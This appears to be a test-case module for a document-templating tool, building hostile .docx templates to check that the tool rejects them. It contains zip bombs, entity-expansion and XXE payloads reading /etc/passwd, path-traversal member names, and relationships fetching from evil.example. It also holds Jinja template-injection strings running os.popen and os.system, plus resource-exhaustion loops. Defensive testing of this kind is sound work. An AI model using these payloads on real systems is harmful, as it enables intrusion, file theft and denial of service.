"""Templates that are hostile, broken, or no templates at all, met by `docgen render` and `docgen build`."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

from render.paper import parts
from render.small import p, package, tbl, tr

from trust.case import Case

T, D, OUT = "t.docx", "d.yaml", "out/x.docx"
RENDER = ("render", T, D, "-o", OUT)
DATA = "题: 甲 & <乙> {{ 丙 }}\n列: [一, 二]\n字: {键: 值}\n"
HOLDS = "甲 & <乙> {{ 丙 }}"
_NO_FILES = ("root:", "<class")
_QUIET = ("map(attribute", "map('attr'", "groupby")
"""They print that nothing is there, instead of failing; a class is never shown."""


def _file(name: str, data: bytes, says: str = "", *, code: int = 1, holds: str = "", fast: bool = False) -> Case:
    return Case(
        name, {T: data, D: DATA}, RENDER, code, says=says, holds=(holds,) if holds else (), hides=_NO_FILES, fast=fast
    )


def _tag(name: str, text: str, says: str = "", *, code: int = 1, holds: str = "", fast: bool = False) -> Case:
    return _file(name, package(p(text)), says, code=code, holds=holds, fast=fast)


SOUND = package(p("{{ 题 }}"), header="{{ 题 }}")


def zipped(members: Mapping[str, bytes], *more: tuple[str, bytes]) -> bytes:
    """A zip of members; `more` may repeat a name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in [*members.items(), *more]:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def changed(name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The sound template with one member changed."""
    made = parts(SOUND)
    return zipped({**made, name: change(made.get(name, b""))})


def with_members(*more: tuple[str, bytes]) -> bytes:
    """The sound template with further members."""
    return zipped(parts(SOUND), *more)


def quiet_twice() -> bytes:
    """The sound template with its main part twice."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return with_members(("word/document.xml", b"<other/>"))


def _instead(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(old, new, 1)


_MAIN, _TYPES, _RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
_DTD = b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">%s]>' % b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
)
_XXE = b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _related(kind: bytes, target: bytes, mode: bytes = b"External") -> bytes:
    one = b'<Relationship Id="rIdX" Type="%s/%s" Target="%s" TargetMode="%s"/>' % (_OFFICE, kind, target, mode)
    return changed(_RELS, _instead(b"</Relationships>", one + b"</Relationships>"))


def _encrypted() -> bytes:
    data = bytearray(SOUND)
    at = 0
    while (at := data.find(b"PK\1\2", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def _lying() -> bytes:
    """A member that says it is small and is not."""
    data = bytearray(with_members(("word/media/a.bin", bytes(50 << 20))))
    at = data.rfind(b"PK\1\2")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


_BOMB = changed(_MAIN, _instead(b"<w:document", _DTD + b"<w:document"))
_ENTITY = changed(_MAIN, _instead(b"<w:document", _XXE + b"<w:document"))
_ATTACHED = _related(b"attachedTemplate", b"http://evil.example/t.dotm")
FILES = [
    _file("zip bomb of 60 MB", with_members(("word/media/a.bin", bytes(60 << 20))), "压缩", fast=True),
    _file("zip bomb in the main part", changed(_MAIN, lambda part: part + b" " * (63 << 20)), "压缩"),
    _file("zip bomb that lies about its size", _lying(), "损坏"),
    _file("20,000 members", with_members(*((f"a/{n}", b"") for n in range(20_000))), "部件"),
    _file("a DTD with entities that double", _BOMB, "DTD"),
    _file(
        "an entity that reads a file", changed(_MAIN, _instead(b"<w:document", _XXE + b"<w:document")), "DTD", fast=True
    ),
    _file("a DTD in UTF-16", changed(_MAIN, lambda x: (_XXE + x.partition(b"?>")[2]).decode().encode("utf-16")), "DTD"),
    _file("macros", changed(_TYPES, _instead(b"document.main+xml", b"document.macroEnabled.main+xml")), "宏"),
    _file(
        "macros of Word",
        changed(
            _TYPES,
            _instead(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "宏",
    ),
    _file("encrypted members", _encrypted(), "密码"),
    _file("old .doc, or encrypted by Word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), ".doc", fast=True),
    _file("cut in half", SOUND[: len(SOUND) // 2], "损坏"),
    _file("cut at the end", SOUND[:-30], "损坏"),
    _file("empty", b"", "损坏"),
    _file("RTF", b"{\\rtf1 {{ x }}}", "损坏"),
    _file("HTML called .docx", b"<html><body>{{ x }}</body></html>", "损坏"),
    _file("a workbook called .docx", zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}), "Word"),
    _file("any zip", zipped({"a.txt": b"a"}), "不是"),
    _file("the main part twice", quiet_twice(), "都叫", fast=True),
    _file("names that differ by case", with_members(("WORD/Document.xml", b"<other/>")), "都叫"),
    _file("a name that leads out", with_members(("../../evil.txt", b"x")), "名称", fast=True),
    _file("a name from the root", with_members(("/etc/cron.d/x", b"x")), "名称"),
    _file("a name of Windows", with_members(("C:\\Windows\\x", b"x")), "名称"),
    _file("a name without letters", with_members(("", b"x")), "名称"),
    _file("a broken main part", changed(_MAIN, lambda part: part[:-20]), "损坏"),
    _file("a main part of 100,000 levels", changed(_MAIN, _instead(b"<w:p>", b"<w:p>" * 100_000)), "损坏"),
    _file("a main part that is missing", zipped({n: d for n, d in parts(SOUND).items() if n != _MAIN}), "不是"),
    _file("bits flipped in the main part", SOUND[:900] + bytes(b ^ 85 for b in SOUND[900:960]) + SOUND[960:], ""),
    _file(
        "an attached template elsewhere",
        _related(b"attachedTemplate", b"http://evil.example/t.dotm"),
        code=0,
        holds=HOLDS,
    ),
    *(
        _file(f"{name} elsewhere", _related(kind, target), code=0, holds=HOLDS)
        for name, kind, target in (
            ("a picture", b"image", b"http://evil.example/a.png"),
            ("a link", b"hyperlink", b"file:///etc/passwd"),
            ("a linked object", b"oleObject", b"file://evil.example/share/x.xls"),
            ("a frame", b"frame", b"http://evil.example/x.html"),
            ("a sub-document", b"subDocument", b"file:///etc/passwd"),
            ("mail merge data", b"mailMergeSource", b"http://evil.example/x.csv"),
        )
    ),
    _file("a relation to nothing", _related(b"image", b"media/none.png", b"Internal"), code=0, holds=HOLDS),
    _file("a relation that leads out", _related(b"image", b"../../../etc/passwd", b"Internal"), code=0, holds=HOLDS),
    _file("macros beside a sound type", with_members(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "宏"),
]

_ESCAPES = (
    "{{ 题.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch hacked').read() }}",
    "{{ lipsum.__globals__['os'].system('touch hacked') }}",
    "{{ self.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__['__builtins__']['open']('/etc/passwd').read() }}",
    "{{ 题|attr('__class__')|attr('__mro__') }}",
    "{{ '%c%c'|format(95,95) }}{{ 题|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(题) }}",
    "{{ ('{0.__class__}'|string).format_map({'0': 题}) }}",
    "{{ 题.format.__self__.__class__ }}",
    "{% set f = ''.format %}{{ f.__globals__ }}",
    "{{ [题]|map(attribute='__class__')|list }}",
    "{{ [题]|map('attr', '__class__')|list }}",
    "{{ [题]|groupby('__class__') }}",
    "{{ [题]|sum(attribute='__class__') }}",
    "{{ 列.append.__self__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.system('touch hacked') }}",
    "{% from 'os' import system %}",
    "{% extends '/etc/passwd' %}",
    "{% do 列.append(1) %}",
    "{{ 列.append(1) }}",
    "{{ 字.update({'键': 1}) }}",
    "{{ config }}",
    "{{ request }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "{{ caller }}",
    "{{ loop }}",
    "{{ joiner.__init__ }}",
    "{{ range.__self__ }}",
    "{{ dict.fromkeys.__self__.__subclasses__() }}",
    "{{ 题.encode().__class__ }}",
    "{{ undefined_thing.a.b }}",
    "{% debug %}",
    "{% call(x) 题() %}{% endcall %}",
)
SSTI = [
    _tag(f"escape: {text}", text, code=int(not any(word in text for word in _QUIET)), fast=n == 2)
    for n, text in enumerate(_ESCAPES)
]

_ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
_DOUBLED = "{% set n = namespace(t=题*99999) %}{% for a in range(99) %}{% set n.t = n.t ~ n.t %}{% endfor %}"
_GIANT = "{% for a in range(99999) %}{% for b in range(99) %}{{ 题 * 99 }}{% endfor %}{% endfor %}"
_NO_ROWS = tbl(tr("{%tr for x in [] %}"), tr("{{ x }}"), tr("{%tr endfor %}"))
LOOPS = [
    _tag("endless loop", _ENDLESS, "太久"),
    _tag("endless macro", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "算不出来"),
    _tag("memory doubled", _DOUBLED, "太多"),
    _tag("a wide filter", "{{ 题|center(9999999999) }}", "太多"),
    _tag(
        "giant output",
        "{% for a in range(99999) %}{% for b in range(99) %}{{ 题 * 99 }}{% endfor %}{% endfor %}",
        "太多",
    ),
    _tag("a large range", "{{ range(10**9) }}", "", fast=True),
    _tag("a power", "{{ 9**(9**9) }}", ""),
    _tag("a text times a thousand million", "{{ 题 * 10**9 }}", ""),
    _tag("4,000 open braces", "{{ " * 4000, ""),
    _tag("nested brackets", "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}", ""),
    _tag("a regular expression's worst", "{{ '" + "a" * 50_000 + "!' }}", code=0, holds="aaaa"),
    _tag("nothing wrong", "{{ 题 }}", code=0, holds=HOLDS, fast=True),
    _tag("Unicode spaces in a tag", "{{\u3000题\u00a0}}", code=0, holds=HOLDS),
    _file(
        "rows of nothing",
        package(_NO_ROWS + p("尾")),
        code=0,
        holds="尾",
    ),
]


def own(name: str, data: bytes, says: str, code: int) -> Case:
    """A template of the project itself, met by a build."""
    return Case(name, {"templates/implementation_plan.docx": data}, ("build",), code, says=says, hides=_NO_FILES)


PROJECT = [
    own("a broken template of the project", b"PK\3\4", "损坏", 3),
    own("a hostile template of the project", package(p(_ESCAPES[2])), "没有", 3),
    own("an endless template of the project", package(p(_ENDLESS)), "太久", 3),
    Case(
        "a template that is a folder",
        prepare=lambda root: (root / "templates/implementation_plan.docx").mkdir(parents=True),
        holds=("加强学习",),
    ),
]

CASES = [*FILES, *SSTI, *LOOPS, *PROJECT]
